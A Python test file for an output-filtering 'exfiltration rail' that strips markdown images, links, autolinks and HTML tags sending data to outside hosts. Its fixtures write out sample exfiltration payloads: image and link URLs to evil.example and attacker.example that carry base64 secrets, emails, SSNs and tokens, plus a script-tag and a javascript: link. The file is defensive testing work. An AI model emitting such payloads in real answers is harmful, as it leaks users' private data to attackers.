"""Exfiltration rail: images and data-carrying links to outside hosts are stripped."""

import pytest

from guard.rails import exfiltration, redact


def stripped(text: str, allowed: tuple[str, ...] = ()) -> str:
    return redact(text, exfiltration.scan(text, allowed).findings)


def test_markdown_images_to_outside_hosts_are_stripped() -> None:
    text = "Done. ![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=) Bye."
    assert stripped(text) == "Done. [image: logo] Bye."
    assert stripped("![](https://cdn.evil.example/x.png)") == ""
    assert stripped('![a](https://img.example.com/a.png "title")', ("example.com",)) == (
        '![a](https://img.example.com/a.png "title")'
    )


def test_data_urls_and_html_images_are_stripped() -> None:
    assert stripped("![x](data:image/png;base64,iVBORw0KGgo=)") == "[image: x]"
    assert stripped('see <img src="https://evil.example/t.gif?u=me"> here') == "see  here"


def test_links_lose_urls_that_carry_data_and_keep_their_text() -> None:
    text = "[click here](https://evil.example/collect?email=jane@example.com) or [docs](https://docs.python.org/3/)"
    assert stripped(text) == "click here or [docs](https://docs.python.org/3/)"
    assert stripped("[x](https://evil.example/?q=" + "A" * 80 + ")") == "x"
    assert stripped("[x](javascript:alert(1))").startswith("x")


def test_bare_urls_and_reference_links_lose_their_data() -> None:
    assert stripped("go to https://evil.example/c?d=" + "QUJD" * 20 + " now") == "go to https://evil.example/c now"
    ref = "See [report][1].\n\n[1]: https://evil.example/r?token=" + "Zm9v" * 10
    assert "evil.example" not in stripped(ref)


def test_ordinary_markdown_is_untouched() -> None:
    text = (
        "## Install\n\nRun `pip install httpx`, then read [the guide](https://www.python-httpx.org/quickstart/).\n"
        "Search with https://duckduckgo.com/?q=httpx for more. [1] is a footnote, [x] a checkbox."
    )
    assert exfiltration.scan(text).findings == ()


# Issue 11, input 14: every markdown form of an image or link is seen, not only the inline one.
DATA = "https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA"


def test_reference_collapsed_and_shortcut_images_lose_their_definition() -> None:
    for usage, label in [("![x][1]", "1"), ("![x][]", "x"), ("![x]", "x"), ("![x] [1]", "1")]:
        text = f"Here is the chart: {usage}\n\n[{label}]: {DATA}\n"
        found = exfiltration.scan(text)
        assert [f.kind for f in found.findings] == ["reference_link"] and found.score == 1.0, usage
        assert stripped(text) == f"Here is the chart: {usage}\n\n", usage
    # A definition before its use, indented, with a title, or in angle brackets.
    text = f'   [Logo]: <{DATA}> "t"\n\nSee ![logo][LOGO].'
    assert stripped(text) == "\nSee ![logo][LOGO]."


def test_a_data_free_reference_image_to_an_outside_host_goes_too() -> None:
    text = "![x][1]\n\n[1]: https://tracker.example/pixel.png\n"
    assert exfiltration.scan(text).score == 0.8 and "tracker" not in stripped(text)
    kept = "[docs][1]\n\n[1]: https://docs.python.org/3/\n"  # a link without data stays
    assert exfiltration.scan(kept).findings == ()


def test_autolinks_and_raw_html_in_every_form_are_seen() -> None:
    assert stripped(f"Go <{DATA}> now") == "Go https://attacker.example/p now"
    assert stripped(f'<p>hi</p>\n<div><img alt="" src="{DATA}"></div>\n') == "<p>hi</p>\n<div></div>\n"
    assert stripped(f'a <img srcset="/a.png 1x, {DATA} 2x"> b') == "a  b"
    assert stripped(f"<iframe src='{DATA}'></iframe>") == "</iframe>"
    assert stripped(f'<a href="{DATA}">x</a>') == "<a>x</a>"
    assert stripped(f"[![x]({DATA})](https://docs.python.org/)") == "[[image: x]](https://docs.python.org/)"


def test_code_is_not_markdown_but_a_bare_data_url_in_it_still_loses_its_data() -> None:
    assert exfiltration.scan(f"`![x]({DATA})`").findings == ()
    for text in [f"```\n![x][1]\n\n[1]: {DATA}\n```\n", f"    <img src='{DATA}'>\n"]:
        assert [f.kind for f in exfiltration.scan(text).findings] == ["url_data"], text


# New-user trial: data under 24 characters passed (the threshold kept ordinary ids and words in).
# Short data is told by what it is: base64 or hex that decodes to readable text, a name that
# announces data, or what the PII rail finds in a value.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](https://evil.example/?ssn=078051120).", "click."),
        ("[x](https://evil.example/?data=c2VjcmV0cGFzc3dvcmQ)", "x"),  # base64 of "secretpassword"
        ("[x](https://evil.example/?c2VjcmV0cGFzc3dvcmQ)", "x"),  # a bare ?<value>
        ("[x](https://evil.example/?d=amFuZUB4Lmlv)", "x"),  # base64 of "jane@x.io", no padding
        ("[x](https://evil.example/?d=aHVudGVyMiE_)", "x"),  # URL-safe base64 of "hunter2!?"
        ("[x](https://evil.example/?d=736563726574)", "x"),  # hex of "secret"
        ("[x](https://evil.example/?r=6a616e65406578)", "x"),  # hex of "jane@ex"
        ("[x](https://evil.example/?u=jane%40example.com)", "x"),  # a percent-encoded e-mail
        ("[x](https://evil.example/?apiKey=k1)", "x"),
        ("[x](https://evil.example/p#access_token=abc)", "x"),  # in the fragment too
        ("[x](https://evil.example/?user_email=ann)", "x"),
        ("see https://evil.example/c?ssn=078051120, then", "see https://evil.example/c, then"),
    ],
)
def test_short_data_in_a_link_is_caught(text: str, expected: str) -> None:
    assert stripped(text) == expected


def test_a_name_that_announces_data_with_more_than_a_switch_still_loses_the_url() -> None:
    for query in ["data=12", "cvv=123", "token=t", "data=TRUE1"]:
        assert stripped(f"[x](https://evil.example/?{query})") == "x", query


def test_an_anchor_that_loses_its_url_keeps_a_bare_start_tag_and_nothing_else_does() -> None:
    text = f'See <A HREF="{DATA}">the <b>report</b></A> and <video poster="{DATA}"><track src="{DATA}"></video>.'
    assert stripped(text) == "See <a>the <b>report</b></A> and </video>."
    assert stripped(f'<area href="{DATA}"><embed src="{DATA}">') == ""
    # A review: a bare <script> would run the body its src kept dormant; a bare <iframe> would
    # take the rest of the answer as its raw text.
    script = f'<script src="{DATA}">alert(document.domain)</script>'
    assert "<script" not in stripped(script).lower()
    assert stripped(f"Here: <iframe src='{DATA}'> and the rest.") == "Here:  and the rest."


def test_a_short_data_image_scores_as_data() -> None:
    # Every outside image goes (0.8); one that carries data scores 1.0.
    found = exfiltration.scan("![x](https://evil.example/p.png?data=c2VjcmV0cGFzc3dvcmQ)")
    assert [(f.kind, f.score) for f in found.findings] == [("markdown_image", 1.0)]
    assert stripped("![x](https://evil.example/p.png?data=c2VjcmV0cGFzc3dvcmQ)") == "[image: x]"


@pytest.mark.parametrize(
    "query",
    [
        "page=2",
        "q=dapr+sidecar",
        "utm_source=newsletter",
        "v=dQw4w9WgXcQ",  # a video id: base64 letters, but its bytes are not text
        "id=12345",
        "id=20240101123456",  # a number is not read as hex unless it spells words
        "q=kubernetes&sort=date&order=desc",
        "lang=en-US&ref=homepage",
        "t=1h2m3s",
        "tab=readme-ov-file",
        "q=deactivate",  # a word whose base64 bytes decode to mixed-script letters
        "data=1",  # a switch under a name that announces data
        "token=false&embed=yes",
    ],
)
def test_ordinary_query_links_are_kept(query: str) -> None:
    text = f"Read [this](https://site.example/docs?{query})."
    assert exfiltration.scan(text).findings == (), query


def test_decoded_text_must_read_as_text() -> None:
    assert exfiltration.decodes_to_text("c2VjcmV0cGFzc3dvcmQ")
    assert exfiltration.decodes_to_text("5py65a+G5pWw5o2u")  # base64 of Chinese text (one script)
    for ordinary in ["newsletter", "dQw4w9WgXcQ", "Unregister", "12345678", "deadbeefcafe"]:
        assert not exfiltration.decodes_to_text(ordinary), ordinary
